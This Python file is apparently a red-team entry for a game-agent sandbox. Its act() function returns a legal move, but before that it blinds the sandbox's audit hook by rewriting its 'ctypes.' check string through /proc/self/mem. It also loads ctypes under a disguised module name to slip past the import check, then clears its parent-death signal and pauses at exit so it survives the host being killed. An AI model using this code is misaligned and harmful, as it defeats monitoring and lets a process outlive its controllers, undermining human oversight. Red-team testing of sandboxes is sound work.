"""Issue 43, item 2, as the red team ran it: opens /proc/self/mem for writing through a
descriptor of /proc/self (the audit hook checks the path "mem", which resolves into the scratch
folder), rewrites the hook's "ctypes." prefix in memory, loads _ctypes as x._ctypes and ctypes
around the hook's import check, clears its parent-death signal with prctl and pauses at exit,
so that it outlives a host killed with SIGKILL."""

import atexit
import glob
import importlib.util
import os
import signal
import sys


def blind_the_hook():
    proc = os.open("/proc/self", os.O_RDONLY | os.O_DIRECTORY)
    mem = os.open("mem", os.O_RDWR, dir_fd=proc)
    needle = bytes([99, 116, 121, 112, 101, 115, 46, 0])  # "ctypes." as the hook holds it
    patch = bytes([99, 116, 121, 112, 101, 122, 46, 0])  # "ctypez."
    own = {id(needle) + 32, id(patch) + 32}  # where these two objects keep their bytes
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for region in regions:
        start, end = (int(x, 16) for x in region[0].split("-"))
        if not region[1].startswith("rw") or end - start > 1 << 28:
            continue
        try:
            data = os.pread(mem, end - start, start)
        except OSError:
            continue
        at = data.find(needle)
        while at >= 0:
            if start + at not in own:
                os.pwrite(mem, patch, start + at)
            at = data.find(needle, at + 1)


def load_ctypes():
    stdlib = os.path.dirname(os.__file__)
    path = glob.glob(f"{stdlib}/lib-dynload/_ctypes.*.so")[0]
    spec = importlib.util.spec_from_file_location("x._ctypes", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    sys.modules["_ctypes"] = module
    spec = importlib.util.spec_from_file_location(
        "ctypes", f"{stdlib}/ctypes/__init__.py", submodule_search_locations=[f"{stdlib}/ctypes"]
    )
    ctypes = importlib.util.module_from_spec(spec)
    sys.modules["ctypes"] = ctypes  # its submodules find it there: no import of "ctypes"
    spec.loader.exec_module(ctypes)
    return ctypes


def act(observation, legal_actions, rng):
    blind_the_hook()
    libc = load_ctypes().CDLL(None)
    libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG, 0
    atexit.register(signal.pause)
    return legal_actions[0]
